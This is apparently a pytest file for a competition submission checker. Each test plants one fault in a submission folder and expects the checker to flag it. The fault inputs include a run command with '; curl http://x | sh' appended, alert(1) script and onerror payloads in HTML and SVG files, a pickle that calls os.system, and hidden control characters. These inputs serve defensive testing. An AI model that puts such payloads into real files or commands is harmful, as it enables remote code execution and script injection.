"""Every rule of golf check: a folder that raises it and one that does not; docs and code agree."""

import json
import math
import os
import re
import shutil

import pytest
from check_kit import add_code, edit, edit_track, found, listing, remove, replace_text, write
from conftest import REPO, container
from golf.check import code as check_code
from golf.check import command as check
from golf.check import record as check_record
from golf.check.folder import RULES, Folder
from golf.cli import main
from golf.core import submission, track
from golf.core.files import sha256
from golf.core.findings import FAIL, HUMAN, NOTE


def seed(**values):
    return lambda folder: edit(folder, lambda v: v["seeds"][0].update(values))


def top(**values):
    return lambda folder: edit(folder, lambda v: v.update(values))


def rules(**values):
    return lambda folder: edit_track(folder, lambda v: v.update(values))


def claim(change):
    return lambda folder: edit(folder, change)


def code(text):
    return lambda folder: add_code(folder, text)


def file(name, content, role):
    return lambda folder: write(folder, name, content, role)


def text(name, old, new):
    return lambda folder: replace_text(folder, name, old, new)


def both(*changes):
    return lambda folder: [change(folder) for change in changes]


one_seed = claim(lambda v: v.update(seeds=v["seeds"][:1]))


def last_score(figure):
    """The log's sliding score becomes another figure."""

    def change(folder):
        path = folder / "train_seed2.log"
        score = re.search(r"final_sliding_window_exact val_loss:(\S+)", path.read_text())[1]
        replace_text(folder, path.name, f"exact val_loss:{score}", f"exact val_loss:{figure}")

    return change


def segment(place, value):
    return claim(lambda v: v["seeds"][1]["segments"][3].__setitem__(place, value))


def swap_segments(v):
    """They add up as before, but no part can be verified."""
    segments = v["seeds"][1]["segments"]
    segments[3], segments[4] = segments[4], segments[3]


def repeat_last_line(folder):
    line = (folder / "train_seed2.log").read_text().splitlines()[-1]
    replace_text(folder, "train_seed2.log", line, f"{line}\n{line}")


def step_at(seconds):
    """The clock of a run's last step but one becomes another."""

    def change(folder):
        lines = (folder / "metrics_seed2.jsonl").read_text().splitlines()
        place = [i for i, line in enumerate(lines) if '"event": "step"' in line][-2]
        lines[place] = json.dumps({**json.loads(lines[place]), "train_seconds": seconds})
        write(folder, "metrics_seed2.jsonl", "\n".join(lines))

    return change


def drop_last_line(folder):
    line = (folder / "train_seed2.log").read_text().splitlines()[-1]
    replace_text(folder, "train_seed2.log", line, "")


def without_artifact(folder):
    top(lane="open-hardware")(folder)
    seed(artifact=None)(folder)
    remove(folder, "final_model_seed1.int8.zlib")


def same(source, name):
    """One file's bytes in the place of another's."""
    return lambda folder: write(folder, name, (folder / source).read_bytes())


def damaged_artifact(folder):
    path = folder / "final_model_seed1.int8.zlib"
    blob = bytearray(path.read_bytes())
    blob[500] ^= 1
    write(folder, path.name, bytes(blob))


def own_coder(folder):
    write(folder, "final_model_seed1.int8.zlib", container(b"", stated=1000, coded=b"anything", coder=77))


def own_tokenizer(folder):
    edit_track(folder, lambda v: v["lanes"].append("non-record"))
    write(folder, "own.model", b"a tokenizer", "score")
    digest = sha256(folder / "own.model")
    for name in (f"metrics_seed{i}.jsonl" for i in (1, 2, 3)):
        stock = json.loads((folder / "submission.json").read_text())["data"]["tokenizer_sha256"]
        replace_text(folder, name, stock, digest)
    edit(folder, lambda v: v.update(lane="non-record", data={**v["data"], "tokenizer_sha256": digest}))


def linked_log(folder):
    (folder / "train_seed2.log").unlink()
    (folder / "train_seed2.log").symlink_to("train_seed1.log")


CUDA = {"device": "cuda", "world_size": 1, "names": ["RTX 4090"]}
VAL_STEP = "\n\ndef adapt(model, path):\n    model(load(path, 'val')).backward()\n"
# (id of the finding, its level, what raises it); each is right but for that one thing.
WRONG = [
    ("bytes", FAIL, top(bytes_total=5)),
    ("bytes", FAIL, top(bytes_model=5)),
    ("bytes", FAIL, seed(bytes_total=5)),
    ("bytes-uncounted", FAIL, both(file("notes.md", "x", "extra"), code("open('notes.md')\n"))),
    ("bytes-uncounted", FAIL, both(file("help.py", "x = 1\n", "log"), code("import help\n"))),
    ("bytes-uncounted", FAIL, code("exec(open('train_seed1.log').read())\n")),
    ("file-role", FAIL, claim(lambda v: listing(v, "train_gpt.py").update(role="log"))),
    ("file-role", FAIL, seed(artifact=None)),
    ("file-role", FAIL, file("help.py", "x = 1\n", "extra")),
    ("file-role", FAIL, file("report.html", "<p>x<SCRIPT>alert(1)</script>", "extra")),
    ("file-role", FAIL, file("report.html", "<img src=x/onerror=alert(1)>", "extra")),
    ("file-role", FAIL, file("report.svg", "<svg\nonload = 'alert(1)'/>", "extra")),
    ("file-role", FAIL, file("report.svg", '<svg><a xlink:href="\njavascript:alert(1)"/></svg>', "extra")),
    *(("file-role", FAIL, lambda f, c=c: (f / "README.md").write_text(f"# Mine\n\nWider{c} is better.\n"))
      for c in ("\u202e", "\x1b[2J", "\u2028", "\r")),
    ("cap", FAIL, file("help.bin", b"x" * 30000, "score")),
    ("cap", FAIL, both(without_artifact, one_seed, top(bytes_total=20001))),
    ("cap", FAIL, both(without_artifact, seed(bytes_total=20001))),
    ("file-listed", FAIL, claim(lambda v: v["files"][0].update(path="../README.md"))),
    ("file-listed", FAIL, claim(lambda v: v["files"].append(v["files"][0]))),
    ("file-listed", FAIL, claim(lambda v: listing(v, "train_gpt.py").update(role="score"))),
    ("file-hash", FAIL, claim(lambda v: v["files"][1].update(bytes=1))),
    ("time", FAIL, seed(eval_seconds=3.25)),
    ("time", FAIL, seed(train_seconds=-1)),
    ("time", FAIL, step_at(1e4)),
    ("time", FAIL, step_at(1e-9)),
    ("time", NOTE, both(step_at(1e-9), top(lane="open-hardware"))),
    ("time-budget", FAIL, seed(train_seconds=31)),
    ("time-budget", FAIL, rules(eval_seconds=1)),
    ("time-budget", FAIL, rules(train_seconds=1e-9)),
    ("targets", FAIL, text("train_seed2.log", "targets:6400", "targets:6000")),
    ("targets", FAIL, rules(targets=6401)),
    ("data", FAIL, claim(lambda v: v["data"].update(val_sha256="0" * 64))),
    ("data", FAIL, claim(lambda v: v["data"].update(name="other"))),
    ("data", FAIL, text("metrics_seed2.jsonl", '"name": "tiny"', '"name": "big"')),
    ("data", FAIL, claim(lambda v: v["data"].update(tokenizer_sha256="0" * 64))),
    ("data-unpinned", HUMAN, lambda f: edit_track(f, lambda v: v["data"].update(val_sha256=None))),
    ("divisor", FAIL, rules(target_bytes=16001)),
    ("score", FAIL, seed(val_loss=1.0)),
    ("score", FAIL, last_score("nan")),
    ("score", FAIL, text("metrics_seed2.jsonl", '"val_bpb"', '"bpb"')),
    ("segments", FAIL, claim(lambda v: v["seeds"][1]["segments"].pop())),
    ("segments", FAIL, segment(0, 1e4)),
    ("segments", FAIL, claim(swap_segments)),
    ("segments", FAIL, segment(1, "x")),
    ("segments", NOTE, both(seed(segments=None), top(lane="open-hardware"))),
    ("code-val", HUMAN, code(VAL_STEP)),
    ("score-note", FAIL, text("train_seed2.log", "targets:6400", "targets:6400 note:partial")),
    ("score-note", FAIL, text("metrics_seed2.jsonl", '"resumed": false', '"resumed": true')),
    ("track", FAIL, top(track="track_other")),
    ("lane", FAIL, top(lane="fast")),
    ("lane", FAIL, top(lane=["record"])),
    ("hardware", FAIL, rules(record_hardware=CUDA)),
    ("hardware", HUMAN, rules(record_hardware={**CUDA, "device": "cpu"})),
    ("own-tokenizer", HUMAN, own_tokenizer),
    ("seed", FAIL, text("metrics_seed2.jsonl", '"seed": 2', '"seed": 7')),
    ("seed-twice", FAIL, seed(seed=2)),
    ("seeds-differ", FAIL, text("metrics_seed2.jsonl", '"MODEL_DIM": 192', '"MODEL_DIM": 8')),
    ("seeds-differ", FAIL, text("metrics_seed2.jsonl", '"name": "tiny"', '"name": "big"')),
    ("log-twice", FAIL, same("train_seed1.log", "train_seed2.log")),
    ("log-twice", HUMAN, lambda f: shutil.copytree(f, f.parent / "2026-01-01_first")),
    ("mean", FAIL, top(train_seconds=29)),
    ("seeds-few", NOTE, claim(lambda v: v["seeds"].pop())),
    ("not-rescorable", NOTE, without_artifact),
    ("not-rescorable", FAIL, both(without_artifact, top(lane="record"))),
    ("file-name", FAIL, lambda f: (f / "help me.py").write_text("x = 1\n")),
    *(("file-name", FAIL, file(name, "[tool.ruff\n", "extra")) for name in ("pyproject.toml", "Ruff.toml")),
    *(("file-name", FAIL, file(name, "{}", "extra"))
      for name in ("track.json", "x/verified.json", "x/submission.json")),
    ("file-name", FAIL, file("conftest.py", "x = 1\n", "score")),
    ("file-kind", FAIL, lambda f: os.mkfifo(f / "pipe")),
    ("file-kind", FAIL, file("weights.bin", "version https://git-lfs.github.com/spec/v1\n", "score")),
    ("file-count", FAIL, lambda f: [(f / f"f{i}").touch() for i in range(600)]),
    ("file-count", FAIL, lambda f: (f / "/".join("abcdefghijkl")).mkdir(parents=True)),
    ("file-large", NOTE, lambda f: os.truncate(f / "train_seed2.log", 11 << 20)),
    ("file-link", FAIL, lambda f: os.link(f / "train.log", f.parent / "elsewhere")),
    ("file-mode", FAIL, lambda f: (f / "train.log").chmod(0o4644)),
    ("file-mode", NOTE, lambda f: (f / "train_gpt.py").chmod(0o755)),
    ("json", FAIL, lambda f: (f / "submission.json").write_text("[]")),
    ("json-schema", FAIL, claim(lambda v: v.pop("hardware"))),
    ("json-schema", FAIL, top(schema_version=7)),
    ("json-schema", FAIL, claim(lambda v: v["files"][0].update(role="friend"))),
    ("placeholder", FAIL, top(author="your name")),
    ("log", FAIL, seed(log="none.log")),
    ("log-lines", FAIL, repeat_last_line),
    ("log-lines", FAIL, drop_last_line),
    ("log-first", FAIL, claim(lambda v: v["seeds"].reverse())),
    ("date", FAIL, top(date="2020-01-01")),
    ("metrics", NOTE, both(top(lane="open-hardware"), lambda f: remove(f, "metrics_seed1.jsonl"))),
    ("metrics", FAIL, text("metrics_seed2.jsonl", '"kind": "sliding"', '"kind": "other"')),
    ("artifact-hash", FAIL, same("final_model_seed2.int8.zlib", "final_model_seed1.int8.zlib")),
    ("env", FAIL, top(env={"ITERATIONS": "4"})),
    ("env", FAIL, top(env={"TOKENIZER_PATH": "y.model"})),  # it was tiny.model
    ("command", FAIL, claim(lambda v: v.update(command=v["command"] + "; curl http://x | sh"))),
    ("command", NOTE, claim(lambda v: v.update(command=v["command"] + " --fast"))),
    ("command", NOTE, top(command="python3 'train_gpt.py")),
    ("command", NOTE, top(command="make all")),
    ("artifact", FAIL, seed(artifact="../../x")),
    ("artifact", FAIL, seed(artifact="README.md")),
    ("artifact-format", FAIL, damaged_artifact),
    ("artifact-format", HUMAN, own_coder),
    ("file-pickle", FAIL, file("cache.bin", b"\x80\x04\x95\0\0.", "extra")),
    ("file-pickle", FAIL, file("weights.bin", b"PK\3\4" + bytes(26) + b"archive/data.pkl", "extra")),
    ("file-pickle", FAIL, file("model.pt", b"x", "extra")),
    ("file-native", FAIL, file("fast.bin", b"\x7fELF\2\1\1\0", "score")),
    *(("file-native", FAIL, file(f"fast.{kind}", "x", "score"))
      for kind in ("cu", "so", "PY", "so.1", "zip", "ipynb")),
    ("file-native", HUMAN, file("table.bin", bytes(5000) + b"\x7fELF\2\1\1", "score")),
    ("file-native", HUMAN, file("table.bin", b"cos\nsystem\n(S'ls'\ntR.", "score")),
    ("file-native", HUMAN, file("table.bin", bytes(9) + b"\x80\4\x95" + bytes(9), "score")),
    ("file-native", HUMAN, file("table.bin", b"PK\3\4\x14\0\0\0" + bytes(5000), "score")),
    ("code-pickle", FAIL, code("import pickle\n")),
    ("code-pickle", FAIL, code("import torch\nw = lambda p: torch.load(p)\n")),
    ("code-native", HUMAN, code("from ctypes import CDLL\n")),
    ("code-syntax", FAIL, code("def\n")),
    ("code-syntax", FAIL, code("return 1\n")),
    ("code-syntax", FAIL, lambda f: [write(f, f"m{i}.py", "", "score") for i in range(30)]),
    ("code-text", FAIL, code("# coding: latin-1\n# \u200b\n")),
    ("code-import", FAIL, code("import tables\n")),
    ("code-unlisted", HUMAN, code("import sqlite3\n")),
    ("code-indirect", HUMAN, code("import os\nx = [os]\n")),
    ("code-outside", HUMAN, code("open('/proc/self/maps')\n")),
    ("code-exec", HUMAN, code("exec('x = 1')\n")),
    ("code-opaque", HUMAN, code(f"DATA = '{'x' * 600}'\n")),
    ("code-network", HUMAN, code("import urllib.request\n")),
    ("code-process", HUMAN, code("import os\nlist_ = lambda: os.system('ls')\n")),
]  # fmt: skip
# (id, what raises it, and nothing else of its level): one fault is one kind of finding.
ALONE = [
    ("file-hash", lambda f: (f / "train_seed1.log").write_text("x")),
    ("file-hash", lambda f: (f / "train_gpt.py").write_text("x = 1\n")),
    ("file-hash", lambda f: (f / "metrics_seed3.jsonl").write_text("{}\n")),
    ("file-hash", lambda f: (f / "final_model_seed3.int8.zlib").write_bytes(b"x")),
    ("file-link", linked_log),
    *(("file-required", lambda f, name=name: (f / name).unlink()) for name in (
        "train_seed2.log", "metrics_seed2.jsonl", "final_model_seed2.int8.zlib", "train_gpt.py", "README.md",
        "submission.json",
    )),
    ("file-unlisted", lambda f: (f / "notes.txt").write_text("x")),
    ("file-role", claim(lambda v: listing(v, "train.log").update(role="readme"))),
    ("score", seed(val_bpb=1.0)), ("mean", top(val_bpb=1.0)), ("time", seed(train_seconds=0.5)),
    ("hardware", top(hardware="RTX 9090")), ("script-hash", text("train_gpt.py", "a blink", "a moment")),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "level", "change"), WRONG, ids=lambda v: v if isinstance(v, str) else "")
def test_what_raises_a_rule(folder, rule, level, change, monkeypatch):
    if not rule.startswith(("code", "bytes")):  # the script is the same each time; reading it takes longest
        monkeypatch.setattr(check_code, "RULES", ())
    change(folder)
    findings = check.check_folder(folder, track.load("track_tiny")).findings
    assert (rule, level) in {(f.rule, f.level) for f in findings}


@pytest.mark.parametrize(("rule", "change"), ALONE)
def test_one_fault_is_one_kind_of_finding(folder, rule, change, monkeypatch):
    monkeypatch.setattr(check_code, "RULES", ())
    change(folder)
    findings = check.check_folder(folder, track.load("track_tiny")).findings
    raised = [f.rule for f in findings if f.level == FAIL and f.rule != "bytes"]
    assert set(raised) == {rule}, [f.message for f in findings]
    assert len(raised) == 1 or not rule.startswith("file-")


def test_too_few_targets_are_one_finding_a_seed(folder):
    rules(targets=6401)(folder)
    findings = check.check_folder(folder, track.load("track_tiny")).findings
    seeds = json.loads((folder / "submission.json").read_text())["seeds"]
    assert [f.rule for f in findings] == ["targets"] * len(seeds)


@pytest.mark.parametrize("change", [
    claim(lambda v: v["seeds"][0].update(log=[])),
    claim(lambda v: v["seeds"][0].update(artifact={})),
    text("metrics_seed2.jsonl", '"script": "train_gpt.py"', '"script": ["train_gpt.py"]'),
])  # fmt: skip
def test_a_list_where_a_name_is_due_ends_no_rule(folder, change):
    change(folder)
    found = {f.rule for f in check.check_folder(folder, track.load("track_tiny")).findings}
    assert "unreadable" not in found


def test_what_golf_new_made_raises_none(folder):
    assert check.check_folder(folder).findings == []


def mention(line):
    return re.findall(r"`([a-z-]+)`", line)


def test_rules_are_the_same_in_code_docs_and_tests():
    """docs/track_spec.md: numbered rules that name their ids, and a table of all ids."""
    spec = (REPO / "docs/track_spec.md").read_text()
    sections, number = {}, None
    for line in spec.replace("\n  ", " ").splitlines():  # an item is one line
        if match := re.match(r"### (\d+\.\d+) ", line):
            number = match[1]
        elif line.startswith("- Checked by:"):
            sections.update(dict.fromkeys(mention(line), number))
    assert sections == RULES
    rows = [mention(line)[0] for line in spec.splitlines() if line.startswith("| `")]
    assert sorted(rows) == sorted(RULES), "the table of findings"
    elsewhere = {"record", "unreadable", "code-packed"}  # below, in test_check_fuzz.py and test_packed.py
    assert {rule for rule, *_ in (*WRONG, *ALONE)} | elsewhere == set(RULES)


def test_every_rule_of_the_spec_has_why_right_and_wrong():
    spec = (REPO / "docs/track_spec.md").read_text()
    parts = re.split(r"^### (?=\d)", spec.split("\n## Findings")[0], flags=re.M)[1:]
    assert len(parts) > 20
    for part in parts:
        for word in ("Why:", "Right:", "Wrong:", "Checked by:"):
            assert part.count(f"\n- {word}") == 1, (part.splitlines()[0], word)


def test_levels_in_the_table_are_those_of_the_tests():
    spec = (REPO / "docs/track_spec.md").read_text()
    for line in (line for line in spec.splitlines() if line.startswith("| `")):
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        rule, levels = mention(line)[0], set(re.findall("FAIL|NEEDS-HUMAN|NOTE", cells[1]))
        assert len(cells) == 4 and all(cells)
        tested = {level for name, level, _ in WRONG if name == rule}
        assert tested <= levels, rule


# ---- The record rule


def losses(folder, *values):
    """Gives the seeds' entries these val_loss, as far as --record reads them."""

    def change(v):
        v["seeds"] = v["seeds"][: len(values)]
        for one, value in zip(v["seeds"], values):
            one["val_loss"] = value
        v["val_loss"] = sum(values) / len(values)

    edit(folder, change)


@pytest.fixture
def record(folder, monkeypatch):
    """Asks the record rule alone: the finding `record` of `folder`, others taken as given."""
    monkeypatch.setattr(submission, "audit_of", lambda place: {} if place.name != "claimed" else None)

    def ask(*valid):
        case_ = Folder(folder, track.load("track_tiny"))
        case_.claim = json.loads((folder / "submission.json").read_text())
        check_record.against_best(case_, lambda entry, rules: entry.name in valid)
        (finding,) = case_.findings
        assert finding.rule == "record"
        return finding

    return ask


def test_a_record_is_asked_for_against_the_best_valid_entry(folder, record):
    for name, base in (("a", 3.0), ("b", 2.9), ("c", 2.0)):
        other = shutil.copytree(folder, folder.parent / name)
        losses(other, base, base + 0.001, base + 0.002)
    losses(folder, 2.8, 2.801, 2.802)
    finding = record("a", "b")  # c is not valid
    assert finding.level == NOTE and "against b: record rule met" in finding.message
    invented = shutil.copytree(folder, folder.parent / "claimed")
    losses(invented, 0.1, 0.101, 0.102)
    assert "against b" in record("a", "b", "claimed").message  # no maintainer has scored it
    losses(folder, 2.897, 2.898, 2.899)
    finding = record("a", "b")
    assert finding.level == FAIL and "record rule not met" in finding.message
    losses(folder, 2.8, 2.801)
    assert "not decided: 2 and 3 seeds" in record("a", "b").message


def test_a_record_without_anything_to_beat(folder, record):
    assert record().level == HUMAN
    other = shutil.copytree(folder, folder.parent / "first")
    losses(other, 9.0, 9.001, 9.002)
    assert record().level == HUMAN  # it is not valid
    top(lane="open-hardware")(other)
    assert record("first").level == HUMAN  # in another lane
    edit_track(folder, lambda v: v.update(record_baseline="first"))
    assert record("first").level == NOTE and "against first" in record("first").message
    assert record().level == HUMAN  # a baseline has to hold, too
    edit(other, lambda v: v["seeds"][1].update(artifact=None))
    assert record("first").level == HUMAN  # and to be such that anyone can score it
    top(lane="open-hardware")(folder)
    assert record().level == FAIL


def test_record_needs_a_folder_without_findings(folder, capsys):
    args = ["check", str(folder), "--record"]
    assert main(args) == 0 and "NEEDS-HUMAN record" in capsys.readouterr().out
    top(val_bpb=1.0)(folder)
    assert main(args) == 1 and "FAIL record: not tested" in capsys.readouterr().out


def test_record_shows_the_table_of_seeds(folder, capsys, monkeypatch):
    monkeypatch.setattr(submission, "audit_of", lambda place: {})
    other = shutil.copytree(folder, folder.parent / "first")
    for name in ("train.log", *(f"train_seed{s}.log" for s in (1, 2, 3))):
        write(other, name, (other / name).read_text() + "\n")  # a run of its own
    assert main(["check", str(folder), "--record"]) == 1
    out = capsys.readouterr().out
    assert "A val_loss" in out and "Welch test" in out and "FAIL record: against first" in out


# ---- Rules at their borders


@pytest.mark.parametrize(("rule", "limit", "figure", "hair"), [
    ("cap", "cap_bytes", "bytes_total", 1), ("time-budget", "train_seconds", "train_seconds", 1e-3),
])  # fmt: skip
def test_a_limit_has_no_tolerance(folder, rule, limit, figure, hair):
    most = max(s[figure] for s in json.loads((folder / "submission.json").read_text())["seeds"])
    most = round(math.ceil(most / hair) * hair, 3)  # as a log may print it
    for value, fails in ((most, False), (most - hair, True)):
        rules(**{limit: value})(folder)
        assert (rule in found(folder)) == fails


def test_other_lanes_are_less_strict(folder):
    text("train_seed2.log", "targets:6400", "targets:6400 note:interrupted")(folder)
    repeat_last_line(folder)
    assert {"score-note", "log-lines"} <= found(folder, FAIL)
    top(lane="open-hardware")(folder)
    assert not found(folder, FAIL) and {"score-note", "log-lines"} <= found(folder, NOTE)
    without_artifact(folder)
    assert not found(folder, FAIL) and "not-rescorable" in found(folder, NOTE)


def test_an_own_tokenizer_is_for_people_to_judge(folder):
    own_tokenizer(folder)
    assert found(folder, FAIL) == {"bytes"}  # the tokenizer counts
    assert "own-tokenizer" in found(folder, HUMAN)
    top(lane="open-hardware")(folder)
    assert "data" in found(folder, FAIL)


def test_the_folder_has_a_good_name_too(folder):
    assert "file-name" in found(folder.rename(folder.with_name("2026-01-01 my idea")), FAIL)
